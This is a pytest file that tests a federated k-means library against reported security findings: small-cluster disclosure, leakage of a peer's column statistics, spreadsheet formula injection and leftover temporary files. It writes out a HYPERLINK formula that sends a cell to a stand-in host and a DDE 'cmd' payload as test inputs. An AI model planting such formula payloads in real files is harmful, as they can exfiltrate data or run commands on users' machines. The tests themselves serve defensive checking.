"""Issue 8, the k-means findings, each played by the attacker: small-cluster suppression bypassed by a
released centroid from another partition (4), the peer's column statistics in a two-party horizontal run
(6), formula column names from a peer (12), and plaintext copies left on disk (9)."""

from __future__ import annotations

import tempfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from kmeans_targets import blobs
from prana.analyses.kmeans.program import InitPlan, Plan, Standardiser, horizontal_inputs, horizontal_program, vertical_program
from prana.analyses.kmeans import Clustering, Request, cluster_local
from prana.errors import InputValidationError, MalformedMessage, PranaError

TESTS = Path(__file__).resolve().parent
SRC = TESTS.parent / "src"


# -- finding 4: the released centroid and size must describe the same persons --------------------------------

def _counter_example() -> tuple[np.ndarray, np.ndarray]:
    """One person at 100, ten at 80, a thousand near 0 (the issue's example), and its initial centroids."""
    rng = np.random.default_rng(4)
    values = np.concatenate([[100.0], np.full(10, 80.0), rng.normal(0.0, 1.0, 1000)])[:, None]
    return values, np.array([[100.0], [70.0], [-1000.0]])


def _check_release(values: np.ndarray, labels: np.ndarray, centroids: np.ndarray, sizes: np.ndarray,
                   min_group_size: int) -> None:
    """The attacker's question and the oracle: no released centroid is an isolated person's value, and each released
    centroid and size are the mean and the count of exactly the persons labelled with that cluster."""
    released = sizes >= min_group_size
    assert released.any()
    gaps = np.abs(values[:, None, 0] - values[None, :, 0]) + np.eye(len(values)) * 1e9
    isolated = values[gaps.min(axis=1) > 1.0]                           # persons a small cluster would expose
    assert len(isolated) >= 1
    for cluster in np.flatnonzero(released):
        members = values[labels == cluster]
        assert sizes[cluster] == len(members)
        np.testing.assert_allclose(centroids[cluster], members.mean(axis=0), atol=0.01)
        assert not np.isclose(isolated, centroids[cluster][None, :], atol=0.01).all(-1).any()
    assert (sizes[~released] == 0).all() and (centroids[~released] == 0).all()


def test_suppression_counts_the_partition_of_the_released_centroid_in_plaintext():
    values, init = _counter_example()
    plan = Plan(k=3, iterations=1, min_group_size=10)
    scaler = Standardiser.fit(values, ["x"], "t")
    vertical = vertical_program(["a"], [1], len(values), plan, ("sealed:z",))
    out = vertical.plaintext({"x_a": scaler.quantise(values), "scale_a": np.stack([scaler.mean, scaler.std]),
                              "init_a": scaler.quantise(init)})
    _check_release(values, out["labels"], out["centroids"], out["sizes"], 10)
    parts = np.split(values, [300, 700])                                # the persons spread over 3 parties
    horizontal = horizontal_program(list("abc"), [len(part) for part in parts], 1, plan, ("sealed:z",))
    inputs = horizontal_inputs("a", parts[0], ["x"], "a", init=init)
    inputs |= horizontal_inputs("b", parts[1], ["x"], "b") | horizontal_inputs("c", parts[2], ["x"], "c")
    out = horizontal.plaintext(inputs)
    labels = np.concatenate([out["labels_a"], out["labels_b"], out["labels_c"]])
    _check_release(values, labels, out["centroids"], out["sizes"], 10)


@pytest.mark.slow
def test_suppression_counts_the_partition_of_the_released_centroid_in_mpc(tmp_path):
    values, init = _counter_example()
    paths = []
    for name, part in zip("abc", np.split(values, [300, 700])):
        paths.append(tmp_path / f"{name}.csv")
        pd.DataFrame(part, columns=["x"]).to_csv(paths[-1], index=False)
    pd.DataFrame(init, columns=["x"]).to_csv(tmp_path / "init.csv", index=False)
    result = cluster_local(paths, k=3, init=tmp_path / "init.csv", iterations=1, min_group_size=10, timeout=600)
    labels = np.concatenate([result.labels[name]["cluster"].to_numpy() for name in "abc"])
    sizes = result.sizes["size"].fillna(0).to_numpy(dtype=int)
    centroids = result.centroids.drop(columns="cluster").fillna(0.0).to_numpy()
    _check_release(values, labels, centroids, sizes, 10)


# -- finding 6: a two-party horizontal member must not learn the other's column means ------------------------

@pytest.mark.slow
def test_a_two_party_horizontal_member_cannot_compute_its_peers_column_means(tmp_path):
    from prana.engine.local import LocalCommittee, error_for, local_federation

    data = blobs(600, 3, 3, seed=7) * 4 + 50
    mine, theirs = data[:250], data[250:] + np.array([3.0, -2.0, 5.0])     # the victim's rows differ
    paths = []
    for name, part in zip("ab", (mine, theirs)):
        paths.append(tmp_path / f"{name}.csv")
        pd.DataFrame(part, columns=["f0", "f1", "f2"]).to_csv(paths[-1], index=False)
    federation = local_federation(tmp_path / "federation", ["a", "b"])
    request = Request(k=3, iterations=3, seed=1, min_group_size=1).__dict__
    with LocalCommittee(workdir=tmp_path / "run", extra_path=[str(TESTS), str(SRC)]) as committee:
        for name, path in zip("ab", paths):
            committee.spawn(name, "kmeans_targets:spying_member",
                            {"federation": str(federation), "me": name, "committee": ["a", "b"], "session": "s6",
                             "table": str(path), "request": request, "workdir": str(tmp_path / name)})
        results = committee.wait(timeout=600)
    assert error_for("a", results["a"]) is None, results["a"]
    revealed = results["a"]["revealed"]                                 # everything a received in the clear
    total, own = len(data), mine.sum(axis=0)
    target = theirs.mean(axis=0)
    for value in revealed.values():                                    # the attack of the issue, on every value
        value = np.asarray(value, dtype=np.float64).ravel()
        if value.shape == target.shape:                                # as a global mean, or a global sum
            for guess in ((value * total - own) / len(theirs), (value - own) / len(theirs)):
                assert not np.allclose(guess, target, rtol=1e-4)
    assert set(revealed) and all(name.endswith((":iterations", ":labels_a")) for name in revealed), sorted(revealed)
    program = horizontal_program(["a", "b"], [250, 350], 3, Plan(k=3, iterations=3, min_group_size=1,
                                 init=InitPlan.draw(600, 3, 1)), ("sealed:z",))
    oracle = program.plaintext(horizontal_inputs("a", mine, ["f0", "f1", "f2"], "a")
                               | horizontal_inputs("b", theirs, ["f0", "f1", "f2"], "b"))
    secure = np.concatenate([results[name]["result"]["labels"] for name in "ab"])
    assert (secure == np.concatenate([oracle["labels_a"], oracle["labels_b"]])).mean() >= 0.99   # and it clusters


def test_two_party_horizontal_inputs_carry_no_global_statistic():
    """The program's inputs of one party are its own points and moments; the global scaling is inside."""
    data = blobs(100, 2, 2, seed=1)
    inputs = horizontal_inputs("a", data, ["x", "y"], "a")
    assert set(inputs) == {"x_a", "moments_a"}
    np.testing.assert_allclose(inputs["moments_a"][:2], [data.mean(0), data.std(0)])
    program = horizontal_program(["a", "b"], [100, 50], 2, Plan(k=2, iterations=1), ("sealed:z",))
    assert [output.name for output in program.outputs if "a" in output.recipients] == ["iterations", "labels_a"]


# -- finding 12: column names from peers are plain names, and the analyst's CSV files run no formula ---------

@pytest.mark.slow
def test_a_peer_with_formula_column_names_is_refused(tmp_path):
    from kmeans_targets import vertical_tables

    paths, _ = vertical_tables(tmp_path, 60, 2, seed=3, keep=1.0)
    frame = pd.read_csv(paths[2], dtype=str).rename(columns={"f8": '=HYPERLINK("http://x.example/?"&A1)'})
    frame.to_csv(paths[2], index=False)
    with pytest.raises(MalformedMessage, match=r"^c sent a column name that is not a plain column name") as caught:
        cluster_local(paths, k=2, id_column="id", iterations=2, min_group_size=1, out=tmp_path / "out", timeout=300)
    assert "HYPERLINK" not in str(caught.value)
    assert not (tmp_path / "out").exists()


def test_saved_files_escape_cells_that_a_spreadsheet_would_run(tmp_path):
    centroids = pd.DataFrame({"cluster": [0, 1], "=cmd|' /C calc'!A0": [-1.5, 2.0], "+x": [1.0, -3.0]})
    sizes = pd.DataFrame({"cluster": [0, 1], "size": [10, 12], "suppressed": [False, False]})
    labels = pd.DataFrame({"id": ["@SUM(1+1)", "-2+3", "P1", "\tx"], "cluster": [0, 1, 0, 1]})
    Clustering(centroids, sizes, 1, 22, 1, "s", {"a": labels}).save(tmp_path)
    for path in tmp_path.glob("*.csv"):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        cells = list(frame.columns) + [cell for column in frame.columns if frame[column].str.match(r"^-?[\d.]+$").all()
                                       is False for cell in frame[column]]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], path.name
    assert pd.read_csv(tmp_path / "centroids.csv").columns[1] == "'=cmd|' /C calc'!A0"
    assert pd.read_csv(tmp_path / "labels-a.csv")["id"].tolist()[:3] == ["'@SUM(1+1)", "'-2+3", "P1"]
    assert pd.read_csv(tmp_path / "centroids.csv")["'+x"].tolist() == [1.0, -3.0]    # numbers stay numbers


# -- finding 9: nothing of a local run stays in the temporary folder, on success or failure ------------------

@pytest.fixture
def private_tmp(tmp_path, monkeypatch):
    fresh = tmp_path / "tmp"
    fresh.mkdir()
    monkeypatch.setenv("TMPDIR", str(fresh))
    monkeypatch.setenv("PRANA_LOG_DIR", str(tmp_path / "logs"))
    monkeypatch.setattr(tempfile, "tempdir", str(fresh))
    return fresh


@pytest.mark.slow
def test_a_local_clustering_leaves_nothing_in_the_temporary_folder(tmp_path, private_tmp):
    data = blobs(120, 3, 2, seed=2)
    paths = []
    for name, part in zip("abc", np.split(data, [40, 80])):
        paths.append(tmp_path / f"{name}.csv")
        pd.DataFrame(part, columns=["f0", "f1", "f2"]).to_csv(paths[-1], index=False)
    cluster_local(paths, k=2, iterations=2, min_group_size=1, timeout=300)
    assert list(private_tmp.iterdir()) == []
    pd.read_csv(paths[2]).rename(columns={"f1": "weight"}).to_csv(paths[2], index=False)   # c's member refuses
    with pytest.raises(InputValidationError, match="differ from"):
        cluster_local(paths, k=2, iterations=2, min_group_size=1, timeout=300)
    assert list(private_tmp.iterdir()) == []


class _Station:
    """Just enough of a station's task context for `run_at_station` up to the point where it waits."""

    def __init__(self, workdir: Path, frame: pd.DataFrame) -> None:
        from prana.config import Federation
        from prana.engine.local import local_federation

        self.workdir, self.frame, self.me, self.min_group_size = workdir, frame, "a", 1
        self.federation = Federation.load(local_federation(workdir.parent / "federation", ["a", "b"]))
        self.deadline, self.seen = 0.0, {}

    def dataset(self, name):
        return self.frame

    def running(self, endpoint):                                       # the worker's table exists by now
        table = self.workdir / "data.csv"
        self.seen = {"columns": list(pd.read_csv(table).columns), "mode": table.stat().st_mode & 0o777}

    def progress(self, *args):
        pass

    def endpoints(self):
        return {}

    def ended(self):
        return True                                                    # cancelled while waiting for the peers


def test_a_station_writes_only_the_task_s_columns_privately_and_removes_them_when_cancelled(tmp_path):
    from prana.analyses.kmeans.station import run_at_station

    workdir = tmp_path / "task"
    workdir.mkdir()
    frame = pd.DataFrame({"id": ["p1", "p2"], "income": [1.0, 2.0], "diagnosis": ["x", "y"], "age": [3, 4]})
    context = _Station(workdir, frame)
    task = {"id": "t1", "stations": ["a", "b"], "dataset": "d", "recipients": ["analyst"],
            "parameters": {"k": 2, "id_column": "id", "columns": ["age"]}}
    with pytest.raises(PranaError, match="never joined"):
        run_at_station(context, task)
    assert context.seen == {"columns": ["id", "age"], "mode": 0o600}
    assert not (workdir / "data.csv").exists() and not (workdir / "member").exists()
